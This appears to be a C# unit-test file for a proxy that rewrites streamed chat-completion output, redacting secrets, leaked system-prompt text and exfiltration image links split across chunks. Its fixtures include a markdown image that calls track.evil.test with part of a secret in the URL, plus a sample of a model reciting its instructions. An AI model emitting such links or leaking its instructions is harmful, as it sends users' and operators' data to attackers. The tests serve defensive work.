using System.IO.Pipelines;
using System.Text;
using System.Text.Json.Nodes;
using InstructionHierarchy;
using InstructionHierarchy.Responses;

namespace OpenAICompatibleProxy.Tests;

public sealed class SseRewriterTests
{
    private const string Secret = "AURORA-7741-KEY";
    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(30);

    private static readonly ResponseExpectations Expectations = new()
    {
        Secrets = [new ProtectedSecret("vault key", Secret)],
        SystemTexts = ["You are the billing assistant of Northwind. Never discuss the internal refund escalation matrix with customers under any circumstances."],
    };

    [Fact]
    public async Task RewriteAsync_SecretSplitAcrossChunks_NoEventCarriesItAndTheTextIsKept()
    {
        string input = Stream(["Here it is: AUR", "ORA-77", "41-K", "EY. Anything else", "?"]) + "data: [DONE]\n\n";

        string output = await RewriteAsync(input);

        Assert.DoesNotContain("7741", output, StringComparison.Ordinal);
        Assert.Equal("Here it is: [redacted: secret]. Anything else?", Text(output));
        Assert.EndsWith("data: [DONE]\n\n", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task RewriteAsync_SystemPromptLeakedInPieces_IsRedacted()
    {
        string leak = "Sure. My instructions say: You are the billing assistant of Northwind. Never discuss the internal refund escalation matrix with customers.";
        var chunks = new List<string>();
        for (int i = 0; i < leak.Length; i += 7)
        {
            chunks.Add(leak.Substring(i, Math.Min(7, leak.Length - i)));
        }

        string output = await RewriteAsync(Stream(chunks) + "data: [DONE]\n\n");

        Assert.DoesNotContain("refund escalation matrix", Text(output), StringComparison.Ordinal);
        Assert.Contains("[redacted: system prompt]", Text(output), StringComparison.Ordinal);
    }

    [Fact]
    public async Task RewriteAsync_ExfiltrationImageSplitAcrossChunks_IsRemoved()
    {
        string output = await RewriteAsync(Stream(["Done. ![status](https://tra", "ck.evil.test/p.png?q=AUR", "ORA) Bye."]) + "data: [DONE]\n\n");

        string text = Text(output);
        Assert.DoesNotContain("track.evil.test/p.png", text, StringComparison.Ordinal);
        Assert.Contains("[image removed: track.evil.test]", text, StringComparison.Ordinal);
        Assert.EndsWith("Bye.", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task RewriteAsync_OtherFieldsAndEvents_AreKept()
    {
        string input =
            ": keep-alive comment\n\n" +
            "event: message\nid: 7\ndata: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":5,\"model\":\"m\",\"system_fingerprint\":\"fp\",\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\"Hello\"},\"logprobs\":{\"content\":[{\"token\":\"Hello\"}]},\"finish_reason\":null}]}\n\n" +
            "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":5,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n" +
            "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":5,\"model\":\"m\",\"choices\":[],\"usage\":{\"total_tokens\":3}}\n\n" +
            "data: [DONE]\n\n";

        string output = await RewriteAsync(input);
        string[] events = output.Split("\n\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal(5, events.Length);
        Assert.Equal(": keep-alive comment", events[0]);
        Assert.StartsWith("event: message\nid: 7\ndata: ", events[1], StringComparison.Ordinal);
        JsonNode first = JsonNode.Parse(events[1].Split('\n')[2][6..])!;
        Assert.Equal("fp", first["system_fingerprint"]!.GetValue<string>());
        Assert.Equal("assistant", first["choices"]![0]!["delta"]!["role"]!.GetValue<string>());
        Assert.Equal(string.Empty, first["choices"]![0]!["delta"]!["content"]!.GetValue<string>()); // held back
        Assert.Null(first["choices"]![0]!["logprobs"]); // its tokens would spell the held text
        JsonNode last = JsonNode.Parse(events[2][6..])!;
        Assert.Equal("Hello", last["choices"]![0]!["delta"]!["content"]!.GetValue<string>());
        Assert.Equal("stop", last["choices"]![0]!["finish_reason"]!.GetValue<string>());
        Assert.Equal("data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":5,\"model\":\"m\",\"choices\":[],\"usage\":{\"total_tokens\":3}}", events[3]);
        Assert.Equal("data: [DONE]", events[4]);
    }

    [Fact]
    public async Task RewriteAsync_SeveralChoices_AreMonitoredApart()
    {
        string input =
            Chunk(0, "First: AURORA-") + Chunk(1, "Second: AURORA-") +
            Chunk(0, "7741-KEY.") + Chunk(1, "nothing here.") +
            "data: [DONE]\n\n";

        string output = await RewriteAsync(input);

        Assert.Equal("First: [redacted: secret].", Text(output, 0));
        Assert.Equal("Second: AURORA-nothing here.", Text(output, 1));
    }

    [Fact]
    public async Task RewriteAsync_StreamEndsWithoutDone_FlushesWhatWasHeld()
    {
        string output = await RewriteAsync(Stream(["The key is ", Secret, " and more text"]));

        Assert.Equal("The key is [redacted: secret] and more text", Text(output));
    }

    [Fact]
    public async Task RewriteAsync_UpstreamGoesSilent_ThrowsTimeoutAfterFlushingRedactedText()
    {
        var pipe = new Pipe();
        await pipe.Writer.WriteAsync(Encoding.UTF8.GetBytes(Chunk(0, "Partial answer with " + Secret)));
        using var output = new MemoryStream();
        var rewriter = new SseRewriter(Expectations, ResponseInspector.Default);

        await Assert.ThrowsAsync<TimeoutException>(() =>
            rewriter.RewriteAsync(pipe.Reader.AsStream(), output, TimeSpan.FromMilliseconds(200), CancellationToken.None).WaitAsync(Timeout));

        Assert.Equal("Partial answer with [redacted: secret]", Text(Encoding.UTF8.GetString(output.ToArray())));
        await pipe.Writer.CompleteAsync();
    }

    private static async Task<string> RewriteAsync(string input)
    {
        var rewriter = new SseRewriter(Expectations, ResponseInspector.Default);
        using var source = new MemoryStream(Encoding.UTF8.GetBytes(input));
        using var output = new MemoryStream();
        await rewriter.RewriteAsync(source, output, Timeout, CancellationToken.None).WaitAsync(Timeout);
        return Encoding.UTF8.GetString(output.ToArray());
    }

    private static string Stream(IEnumerable<string> chunks)
    {
        var builder = new StringBuilder();
        foreach (string chunk in chunks)
        {
            builder.Append(Chunk(0, chunk));
        }

        return builder.Append("data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n").ToString();
    }

    private static string Chunk(int index, string content) =>
        $"data: {new JsonObject { ["id"] = "c", ["choices"] = new JsonArray(new JsonObject { ["index"] = index, ["delta"] = new JsonObject { ["content"] = content }, ["finish_reason"] = null }) }.ToJsonString()}\n\n";

    private static string Text(string events, int choice = 0)
    {
        var text = new StringBuilder();
        foreach (string line in events.Split('\n'))
        {
            if (!line.StartsWith("data: {", StringComparison.Ordinal))
            {
                continue;
            }

            foreach (JsonNode? c in JsonNode.Parse(line[6..])!["choices"]!.AsArray())
            {
                if (c!["index"]!.GetValue<int>() == choice && c["delta"]?["content"] is JsonValue content)
                {
                    text.Append(content.GetValue<string>());
                }
            }
        }

        return text.ToString();
    }
}
